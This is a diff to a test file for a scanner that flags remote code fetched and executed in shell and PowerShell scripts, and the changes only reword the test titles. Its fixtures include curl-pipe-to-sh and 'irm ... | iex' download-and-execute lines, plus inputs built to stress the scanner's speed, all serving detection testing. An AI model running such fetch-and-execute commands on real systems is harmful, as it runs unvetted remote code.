@@ -54,17 +54,17 @@ it.each([
   'curl -s http://127.0.0.1:8080/i.sh | sh',
   'curl -s http://registry:5000/i.sh | sh',
   'echo "curl https://a.example/i.sh | sh"',
-])('finds none in %j', (script) => {
+])('finds no remote code in %j', (script) => {
   expect(found(script)).toEqual([]);
 });
 
-it('reads PowerShell by the line', () => {
+it('reads PowerShell line by line', () => {
   expect(
     found('# irm https://a.example/0 | iex\nirm https://a.example/1 | iex\nirm https://a.example/2', 'pwsh'),
   ).toEqual(['piped https://a.example/1 Invoke-Expression']);
 });
 
-it('knows a host only when it is literal', () => {
+it('returns a host only if it is literal', () => {
   expect(hostOf('https://user@A.example:8443/x')).toBe('a.example');
   expect(hostOf('https://$HOST/x')).toBeUndefined();
   expect(hostOf('a.example/x')).toBeUndefined();
@@ -76,7 +76,7 @@ it.each([
   ['values that multiply', `${'A=$B$B$B$B\nB=$C$C$C$C\n'.repeat(500)}${'curl "$A$B$C"\n'.repeat(500)}`],
   ['one file moved on and on', `curl -o x u.example/\n${'mv x y\nmv y x\n'.repeat(5_000)}`],
   ['a long address', `curl https://a.example/${'1'.repeat(150_000)} | sh`],
-])('is quick with %s', (_, script) => {
+])('is fast with %s', (_, script) => {
   const spent = cpuTimeOf(() => {
     found(script);
   });
